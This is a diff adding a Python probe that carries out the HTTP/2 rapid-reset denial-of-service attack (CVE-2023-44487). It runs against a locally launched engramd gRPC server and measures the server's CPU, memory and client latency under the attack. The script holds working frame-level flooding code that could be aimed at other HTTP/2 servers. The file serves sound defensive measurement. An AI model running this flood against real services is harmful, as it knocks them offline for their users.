@@ -1,0 +1,172 @@
+#!/usr/bin/env python3
+"""HTTP/2 "rapid reset" (CVE-2023-44487) against one engramd: a probe that
+prints what it costs, not a test.
+
+Clients open streams of engram.v1.Engram/GetStore and reset each at once
+(HEADERS then RST_STREAM, 100 to a write) on a few connections, while one
+well-behaved client calls GetStore in a loop. gRPC 1.51's synchronous
+server keeps each such stream queued until one of its threads takes it,
+however soon it was reset, so engramd's memory and its queue grow with
+the attack. Over TLS with --token_file (or client certificates) a stream
+without credentials is refused as its headers arrive, before it queues.
+
+Usage (with the Python of build/venv):
+  http2_reset_probe.py BIN_DIR [--seconds 10] [--connections 4] [--tls] [--tokens]
+
+Prints the machine, then for the well-behaved client before, during and
+after the attack: calls answered, calls failed (by code), the slowest call;
+the streams the attack opened, engramd's CPU seconds and resident memory.
+"""
+import argparse
+import os
+import socket
+import ssl
+import struct
+import sys
+import tempfile
+import threading
+import time
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "e2e"))
+import grpc  # noqa: E402
+from engram_client import Client  # noqa: E402
+from harness import Engramd, make_certs  # noqa: E402
+
+TOKEN = "writer-0123456789abcdef"
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
+        ">I", stream) + payload
+
+
+def literal(name, value):
+    """An HPACK header field, literal, never indexed names (short strings)."""
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+HEADERS = b"".join([literal(b":method", b"POST"), literal(b":scheme", b"http"),
+                    literal(b":path", b"/engram.v1.Engram/GetStore"),
+                    literal(b":authority", b"x"), literal(b"content-type", b"application/grpc"),
+                    literal(b"te", b"trailers")])
+
+
+def attack(port, seconds, ca, opened):
+    """Opens and resets streams for `seconds`; adds their count to `opened`."""
+    s = socket.create_connection(("127.0.0.1", port))
+    s.settimeout(seconds + 5)  # engramd may stop reading: a write gives up.
+    if ca:
+        context = ssl.create_default_context(cafile=ca)
+        context.set_alpn_protocols(["h2"])
+        s = context.wrap_socket(s, server_hostname="localhost")
+    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+
+    def answer_settings_and_pings():
+        pending = b""
+        try:
+            while True:
+                data = s.recv(65536)
+                if not data:
+                    return
+                pending += data
+                while len(pending) >= 9:
+                    length = int.from_bytes(pending[:3], "big")
+                    if len(pending) < 9 + length:
+                        break
+                    kind, flags = pending[3], pending[4]
+                    if kind == 4 and not flags & 1:
+                        s.sendall(frame(4, 1, 0))
+                    if kind == 6 and not flags & 1:
+                        s.sendall(frame(6, 1, 0, pending[9:9 + length]))
+                    pending = pending[9 + length:]
+        except OSError:
+            return
+
+    threading.Thread(target=answer_settings_and_pings, daemon=True).start()
+    stream, count, end = 1, 0, time.time() + seconds
+    try:
+        while time.time() < end and stream < 2**31 - 1000:
+            batch = b""
+            for _ in range(100):
+                batch += frame(1, 4, stream, HEADERS) + frame(3, 0, stream, struct.pack(">I", 8))
+                stream += 2
+            s.sendall(batch)
+            count += 100
+    except OSError:
+        pass  # engramd closed the connection.
+    s.close()
+    opened.append(count)
+
+
+def calls(client, seconds):
+    ok, failed, slowest = 0, {}, 0.0
+    end = time.time() + seconds
+    while time.time() < end:
+        start = time.time()
+        try:
+            client.get_store("s")
+            ok += 1
+        except grpc.RpcError as e:
+            failed[e.code().name] = failed.get(e.code().name, 0) + 1
+        slowest = max(slowest, time.time() - start)
+    return "%d answered, failed %s, slowest %.3f s" % (ok, failed or "none", slowest)
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("bin")
+    parser.add_argument("--seconds", type=float, default=10)
+    parser.add_argument("--connections", type=int, default=4)
+    parser.add_argument("--tls", action="store_true")
+    parser.add_argument("--tokens", action="store_true")
+    args = parser.parse_args()
+    with open("/proc/cpuinfo") as f:
+        model = next((line.split(":", 1)[1].strip() for line in f
+                      if line.startswith("model name")), "unknown")
+    print("machine: %s, %d cores" % (model, os.cpu_count()), flush=True)
+    with tempfile.TemporaryDirectory() as tmp:
+        flags, options, ca = [], {}, None
+        if args.tls:
+            certs = make_certs(tmp)
+            ca = certs("ca.pem")
+            flags += ["--tls_cert=" + certs("server.pem"), "--tls_key=" + certs("server.key")]
+            options["tls_ca"] = ca
+        if args.tokens:
+            tokens = os.path.join(tmp, "tokens")
+            with open(tokens, "w") as f:
+                f.write("write %s\n" % TOKEN)
+            flags.append("--token_file=" + tokens)
+            options["token"] = TOKEN
+        print("engramd: %s" % (" ".join(flags) or "plaintext, no tokens"), flush=True)
+        server = Engramd(args.bin, tmp, *flags)
+        try:
+            port = int(server.addr.rsplit(":", 1)[1])
+            client = Client(server.addr, retries=0, timeout=5, **options)
+            client.create_store("s", dim=4)
+            print("before:", calls(client, 3), flush=True)
+            ticks = os.sysconf("SC_CLK_TCK")
+
+            def cpu():
+                with open("/proc/%d/stat" % server.proc.pid) as f:
+                    return sum(map(int, f.read().split()[13:15])) / ticks
+
+            cpu_before, opened = cpu(), []
+            attackers = [threading.Thread(target=attack, args=(port, args.seconds, ca, opened))
+                         for _ in range(args.connections)]
+            for t in attackers:
+                t.start()
+            print("during:", calls(client, args.seconds), flush=True)
+            for t in attackers:
+                t.join()
+            with open("/proc/%d/status" % server.proc.pid) as f:
+                resident = next(line.split()[1] for line in f if line.startswith("VmRSS"))
+            print("attack: %d streams opened and reset on %d connections; engramd %.1f CPU s, "
+                  "%d MiB resident" % (sum(opened), args.connections, cpu() - cpu_before,
+                                       int(resident) // 1024), flush=True)
+            print("after:", calls(client, 3))
+        finally:
+            server.kill()
+
+
+if __name__ == "__main__":
+    main()
